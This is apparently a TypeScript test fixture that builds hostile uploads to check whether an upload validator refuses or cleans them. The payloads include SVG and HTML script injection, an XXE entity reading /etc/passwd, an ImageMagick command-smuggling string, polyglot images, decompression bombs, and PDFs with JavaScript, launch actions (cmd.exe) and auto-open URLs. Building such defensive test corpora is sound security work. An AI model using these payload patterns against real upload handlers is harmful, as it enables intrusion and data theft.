import { deflateSync, gzipSync } from "node:zlib";
import { pdf, stream } from "#api/testing/pdfBytes.ts";
import {
  type Bytes,
  bytesOf,
  changed,
  joined,
  jpegSegment,
  jpegSizeAt,
  little32,
  picture,
  png,
  pngChunk,
  pngEnd,
  pngHeader,
  pngPixels,
  webp,
  webpChunk,
  withSegment,
} from "#api/testing/pictureBytes.ts";

/**
 * A harmful or broken file. `refused` is the only acceptable code; `cleaned` means that the file is accepted, and that
 * the stored files no longer contain the mark below.
 */
export type HostileFile = {
  readonly name: string;
  readonly as: "picture" | "document";
  readonly bytes: Bytes;
  readonly outcome: { readonly refused: string } | "cleaned";
};

/** Part of every payload, to look for afterwards. */
export const mark = "MizanHostileMark";
const script = `<script>alert("${mark}")</script>`;
const padded = (start: string) => bytesOf(start.padEnd(2_000, " "));

type UploadedPayload = readonly [name: string, bytes: Bytes, refused?: string];
const group = (as: HostileFile["as"], refused: string | null, sent: readonly UploadedPayload[]): HostileFile[] =>
  sent.map(([name, bytes, own]) => {
    const code = own ?? refused;
    return { name, as, bytes, outcome: code === null ? "cleaned" : { refused: code } };
  });

/**
 * The whole corpus (reliability R22): other formats under a picture's name, damage, decompression bombs, appended data,
 * and what PDFs can hide.
 */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await picture("jpeg");
  const webpFile = await picture("webp");
  return [
    ...otherKinds(),
    ...damaged(jpeg, webpFile),
    ...bombs(jpeg),
    ...stowaways(jpeg, webpFile),
    ...documents(),
    ...hiddenInDocuments(),
  ];
}

function otherKinds(): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${mark}')">${script}</svg>`;
  const sent: UploadedPayload[] = [
    ["SVG with a script", bytesOf(svg)],
    ["SVG behind an XML declaration", bytesOf(`<?xml version="1.0"?>${svg}`)],
    ["SVG that reads a file by an entity", bytesOf(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`)],
    ["SVG packed with gzip", new Uint8Array(gzipSync(svg))],
    ["HTML page", bytesOf(`<!doctype html><html>${script}</html>`)],
    ["HTML page in UTF-16", joined(Uint8Array.of(0xff, 0xfe), new Uint8Array(Buffer.from(script, "utf16le")))],
    ["XHTML page", bytesOf(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
    ["script", bytesOf(`alert("${mark}")`)],
    ["GIF", bytesOf("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;")],
    ["GIF that is a script as well", bytesOf(`GIF89a/*${" ".repeat(50)}*/=alert("${mark}")`)],
    ["BMP", padded("BM")],
    ["TIFF", padded("II*\u0000")],
    ["icon", padded("\u0000\u0000\u0001\u0000")],
    ["AVIF", padded("\u0000\u0000\u0000\u0020ftypavif")],
    ["HEIC", padded("\u0000\u0000\u0000\u0020ftypheic")],
    ["Photoshop file", padded("8BPS")],
    ["PostScript", padded(`%!PS-Adobe-3.0 EPSF-3.0\n(${mark}) run`)],
    ["drawing commands of ImageMagick", padded(`push graphic-context\nfill 'url(https://x/"|touch ${mark}")'`)],
    ["script of ImageMagick", padded(`<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>`)],
    ["ZIP archive", padded("PK\u0003\u0004")],
    ["ELF program", padded("\u007fELF")],
    ["Windows program", padded("MZ")],
    ["shell script", bytesOf(`#!/bin/sh\necho ${mark}`)],
    ["PHP", bytesOf(`<?php echo "${mark}"; ?>`)],
    ["WebAssembly", padded("\u0000asm\u0001\u0000\u0000\u0000")],
    ["Flash", padded("CWS\u000a")],
    ["MP4", padded("\u0000\u0000\u0000\u0018ftypmp42")],
    ["sound in a RIFF container", joined(bytesOf("RIFF"), little32(1000), padded("WAVEfmt "))],
    ["test file of virus scanners", bytesOf("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")],
    ["PDF where a picture belongs", pdf()],
    ["nothing", new Uint8Array(), "file_empty"],
    ["one byte", Uint8Array.of(0xff)],
    ["more than 5 MB", new Uint8Array(5_242_881), "file_too_large"],
  ];
  return group("picture", "file_type_unknown", sent);
}

function damaged(jpeg: Bytes, webpFile: Bytes): HostileFile[] {
  const whole = png(pngHeader(60, 40), pngPixels(60, 40), pngEnd);
  const sizeAt = jpegSizeAt(jpeg);
  const frame = jpeg.subarray(sizeAt - 5, sizeAt - 3 + ((jpeg[sizeAt - 3]! << 8) | jpeg[sizeAt - 2]!));
  const sent: UploadedPayload[] = [
    ["PNG of its signature alone", whole.slice(0, 8)],
    ["PNG cut off in its pixels", whole.slice(0, 45)],
    ["PNG without its end", whole.slice(0, -12)],
    ["PNG without pixels", png(pngHeader(60, 40), pngEnd)],
    ["PNG whose header is not first", png(pngPixels(60, 40), pngHeader(60, 40), pngEnd)],
    ["PNG that is nothing wide", png(pngHeader(0, 40), pngPixels(0, 40), pngEnd)],
    ["PNG whose pixels are noise", png(pngHeader(60, 40), pngChunk("IDAT", bytesOf(mark.repeat(9))), pngEnd)],
    ["PNG with half of its lines", png(pngHeader(60, 40), pngPixels(60, 20), pngEnd)],
    ["PNG with a wrong check sum", changed(whole, 45, whole[45]! ^ 0xff)],
    ["PNG with a chunk longer than the file", png(pngHeader(60, 40), bytesOf("\u007f\u007f\u007f\u007fIDAT"))],
    ["JPEG of its start alone", jpeg.slice(0, 3)],
    ["JPEG cut off in its scan", jpeg.slice(0, -40)],
    ["JPEG without its end", jpeg.slice(0, -2)],
    ["JPEG without a frame", joined(jpeg.slice(0, 2), Uint8Array.of(0xff, 0xd9, 0, 0))],
    ["JPEG of two sizes", withSegment(jpeg, frame)],
    ["JPEG that is nothing high", changed(jpeg, sizeAt, 0, 0)],
    ["JPEG with a segment longer than the file", withSegment(jpeg.slice(0, 40), Uint8Array.of(0xff, 0xe1, 0xff, 0xff))],
    ["WebP cut in half", webpFile.slice(0, webpFile.length / 2)],
    ["WebP that claims to be longer", changed(webpFile, 4, 0xff, 0xff)],
    ["WebP of noise", webp(webpChunk("VP8 ", bytesOf(mark.repeat(9))))],
    ["WebP with an unknown first chunk", webp(webpChunk("JUNK", bytesOf(mark.repeat(9))))],
  ];
  return group("picture", "picture_damaged", sent);
}

function bombs(jpeg: Bytes): HostileFile[] {
  const claims = (width: number, height: number) => png(pngHeader(width, height), pngPixels(10, 10), pngEnd);
  const large = jpegSizeAt(jpeg);
  const canvas = webpChunk("VP8X", Uint8Array.of(0, 0, 0, 0, 0xff, 0xff, 0x3f, 0xff, 0xff, 0x3f));
  const lossless = webpChunk("VP8L", Uint8Array.of(0x2f, 0xff, 0xff, 0xff, 0x0f, ...new Uint8Array(30)));
  const sent: UploadedPayload[] = [
    ["PNG that claims 900 megapixels", claims(30_000, 30_000)],
    ["PNG that claims to be as large as can be", claims(2 ** 31 - 1, 2 ** 31 - 1)],
    ["PNG of one endless line", claims(39_000_000, 1)],
    ["PNG one line above 40 megapixels", claims(8_000, 5_001)],
    ["JPEG that claims 65,500 by 65,500", changed(jpeg, large, 0xff, 0xdc, 0xff, 0xdc)],
    ["WebP with a canvas of 4 million by 4 million", webp(canvas)],
    ["lossless WebP of 268 megapixels", webp(lossless)],
  ];
  const zeros = new Uint8Array(30_000_000);
  const hidden: UploadedPayload[] = [
    [
      "PNG with a note that unpacks to 30 MB",
      png(
        pngHeader(60, 40),
        pngChunk("zTXt", joined(bytesOf("a\u0000\u0000"), deflateSync(zeros))),
        pngPixels(60, 40),
        pngEnd,
      ),
    ],
    ["PNG with pixels that unpack to 30 MB", png(pngHeader(60, 40), pngChunk("IDAT", deflateSync(zeros)), pngEnd)],
  ];
  return [...group("picture", "picture_too_large", sent), ...group("picture", null, hidden)];
}

function stowaways(jpeg: Bytes, webpFile: Bytes): HostileFile[] {
  const pixels = [pngHeader(60, 40), pngPixels(60, 40), pngEnd] as const;
  const place = joined(
    bytesOf("Exif\u0000\u0000MM\u0000*\u0000\u0000\u0000\u0008\u0000\u0000"),
    bytesOf(`GPS 21.4225 N ${mark}`),
  );
  const sent: UploadedPayload[] = [
    ["JPEG with the place where it was taken", withSegment(jpeg, jpegSegment(0xe1, place))],
    [
      "JPEG with a script in its XMP",
      withSegment(jpeg, jpegSegment(0xe1, bytesOf(`http://ns.adobe.com/xap/1.0/\u0000${script}`))),
    ],
    ["JPEG with PHP in its comment", withSegment(jpeg, jpegSegment(0xfe, bytesOf(`<?php ${mark} ?>`)))],
    [
      "JPEG with a colour profile of text",
      withSegment(jpeg, jpegSegment(0xe2, bytesOf(`ICC_PROFILE\u0000\u0001\u0001${mark}`))),
    ],
    ["JPEG that is a page as well", joined(jpeg, bytesOf(`<html>${script}</html>`))],
    ["JPEG that is an archive as well", joined(jpeg, bytesOf(`PK\u0003\u0004${mark}PK\u0005\u0006`))],
    ["JPEG that is a script as well", withSegment(jpeg, jpegSegment(0xe0, bytesOf(`/*${mark}*/=alert(1)/*`)))],
    [
      "PNG with a script in its text",
      png(pngHeader(60, 40), pngChunk("tEXt", bytesOf(`Comment\u0000${script}`)), ...pixels.slice(1)),
    ],
    [
      "PNG with notes of a camera",
      png(pngHeader(60, 40), pngChunk("eXIf", bytesOf(`MM\u0000*${mark}`)), ...pixels.slice(1)),
    ],
    ["PNG with a chunk of its own", png(pngHeader(60, 40), pngChunk("hoST", bytesOf(mark)), ...pixels.slice(1))],
    ["PNG that is a page as well", joined(png(...pixels), bytesOf(script))],
    ["WebP with a page behind it", joined(webpFile, bytesOf(script))],
    ["WebP with a chunk of text", webp(webpFile.subarray(12), webpChunk("XMP ", bytesOf(script)))],
  ];
  return group("picture", null, sent);
}

function documents(): HostileFile[] {
  const sent: UploadedPayload[] = [
    ["HTML page called PDF", bytesOf(script), "file_type_unknown"],
    ["page before the header", joined(bytesOf(script), pdf()), "file_type_unknown"],
    ["form data of Acrobat", bytesOf(`%FDF-1.2\n${mark}`), "file_type_unknown"],
    ["PDF of a version that never was", bytesOf("%PDF-9.9\n%%EOF"), "file_type_unknown"],
    ["more than 20 MB", joined(pdf(), new Uint8Array(20_971_520)), "body_too_large"],
    ["PDF of its header alone", bytesOf("%PDF-1.7\n")],
    ["PDF cut in half", pdf().slice(0, 400)],
    ["PDF without its table", bytesOf("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF")],
    ["PDF with a page behind it", joined(pdf(), bytesOf(script))],
    ["PDF with an archive behind it", joined(pdf(), bytesOf("PK\u0003\u0004PK\u0005\u0006"))],
    ["encrypted PDF", pdf({ trailer: "/Encrypt 5 0 R", objects: ["<< /Filter /Standard >>"] }), "document_locked"],
    [
      "picture of 900 megapixels where a document may be one",
      png(pngHeader(30_000, 30_000), pngPixels(9, 9), pngEnd),
      "picture_too_large",
    ],
  ];
  return group("document", "document_damaged", sent);
}

/** PDFs that open a URL or another file as soon as they are opened, in every possible way. */
function triggers(packed: (content: string, dictionary?: string) => Bytes): UploadedPayload[] {
  const uri = `<< /S /URI /URI (https://host.example/${mark}) >>`;
  const goTo = "<< /S /GoTo /D [5 0 R /Fit] >>";
  const packing = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";
  const withPacked = (catalogue: string, content: string) =>
    pdf({ catalogue, objects: [stream(packing, deflateSync(content))] });
  return [
    ["PDF that opens an address", pdf({ catalogue: `/OpenAction ${uri}` })],
    ["PDF that opens an address, spelled in numbers", pdf({ catalogue: `/Open#41ction << /#53 /U#52I /URI (x) >>` })],
    ["PDF that opens an address by an object", pdf({ catalogue: "/OpenAction 5 0 R", objects: [uri] })],
    [
      "PDF that opens an address by an object behind a comment",
      pdf({ catalogue: "/OpenAction %\n5 %\n0 R", objects: [uri] }),
    ],
    ["PDF that opens an address by a packed object", withPacked("/OpenAction 9 0 R", `9 0 ${uri}`)],
    ["PDF whose packed catalogue opens an address", packed(`9 0 << /Type /Catalog /OpenAction ${uri} >>`)],
    ["PDF that opens an object that is not there", pdf({ catalogue: "/OpenAction 99 0 R" })],
    [
      "PDF that shows a page and then opens an address",
      pdf({ catalogue: `/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next ${uri} >>` }),
    ],
    [
      "PDF that shows a page and then opens an address, hidden behind a text",
      pdf({ catalogue: `/OpenAction << /S /GoTo /D (a>>) /Next ${uri} >>` }),
    ],
    [
      "PDF whose action is another when it is saved again",
      pdf({ catalogue: "/OpenAction 5 0 R", objects: [goTo, bytesOf(`null\nendobj\n5 0 obj\n${uri}`)] }),
    ],
    ["PDF that prints itself", pdf({ catalogue: "/OpenAction << /S /Named /N /Print >>" })],
    ["PDF that opens a thread of another file", pdf({ catalogue: "/OpenAction << /S /Thread /F (x.pdf) >>" })],
    ["PDF that opens an address with a page", pdf({ objects: [`<< /AA << /O ${uri} >> >>`] })],
    ["PDF that opens an address with a page, by an object", pdf({ objects: ["<< /A#41 6 0 R >>", `<< /O ${uri} >>`] })],
    ["PDF that opens an address when it is closed", pdf({ catalogue: `/AA << /WC ${uri} >>` })],
    [
      "PDF with a picture of a stranger's server",
      pdf({ objects: ["<< /F << /FS /URL /F (https://host.example) >> >>"] }),
    ],
  ];
}

function hiddenInDocuments(): HostileFile[] {
  const action = (kind: string, rest = "") => pdf({ catalogue: `/OpenAction << /S /${kind} ${rest} >>` });
  const packed = (content: string, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") =>
    pdf({ objects: [stream(dictionary, deflateSync(content))] });
  const hiddenScript = `5 0 << /S /JavaScript /JS (app.alert("${mark}")) >>`;
  const active: UploadedPayload[] = [
    ["PDF with a script at its opening", action("JavaScript", `/JS (app.alert("${mark}"))`)],
    ["PDF with a script spelled in numbers", action("J#61va#53cript", "/JS 5 0 R")],
    ["PDF with a script at a page's closing", pdf({ objects: [`<< /AA << /C << /S /JavaScript >> >> >>`] })],
    ["PDF with scripts by name", pdf({ catalogue: "/Names << /JavaScript 5 0 R >>" })],
    ["PDF with a script in packed objects", packed(hiddenScript)],
    [
      "PDF with a script in packed objects that are spelled in numbers",
      packed(hiddenScript, "/Type /Obj#53tm /Filter /Flate#44ecode"),
    ],
    ["PDF that starts a program", action("Launch", "/F (cmd.exe)")],
    ["PDF that opens another on a stranger's server", action("GoToR", "/F (\\\\\\\\host\\\\share\\\\x.pdf)")],
    ["PDF that opens one inside it", action("GoToE")],
    ["PDF that sends what is typed into it", action("SubmitForm", "/F (https://host.example)")],
    ["PDF that takes data in", action("ImportData", "/F (x.fdf)")],
    ["PDF with a film", action("Rendition")],
    ["PDF with a sound", action("Sound")],
    ["PDF with an old film", action("Movie")],
    ["PDF with Flash in it", pdf({ objects: ["<< /Type /Annot /Subtype /RichMedia >>"] })],
    ["PDF with a file in it", pdf({ objects: [stream("/Type /EmbeddedFile", bytesOf(mark))] })],
    ["PDF with files by name", pdf({ catalogue: "/Names << /EmbeddedFiles << /Names [] >> >>" })],
    ["PDF with a form of XML", pdf({ catalogue: "/AcroForm << /XFA 5 0 R >>" })],
    ...triggers(packed),
  ];
  const obscure: UploadedPayload[] = [
    ["PDF whose packed objects are packed otherwise", packed(hiddenScript, "/Type /ObjStm /Filter /LZWDecode")],
    [
      "PDF whose packed objects are packed twice",
      packed(hiddenScript, "/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]"),
    ],
    [
      "PDF whose packed objects are differences",
      packed(hiddenScript, "/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
    ],
    [
      "PDF whose packed objects are noise",
      pdf({ objects: [stream("/Type /ObjStm /Filter /FlateDecode", bytesOf(mark))] }),
    ],
    ["PDF whose packed objects unpack to 80 MB", packed(" ".repeat(80_000_000))],
    ["PDF whose packed objects have no stream", pdf({ trailer: "/Type /ObjStm" })],
  ];
  return [...group("document", "document_active", active), ...group("document", "document_obscure", obscure)];
}
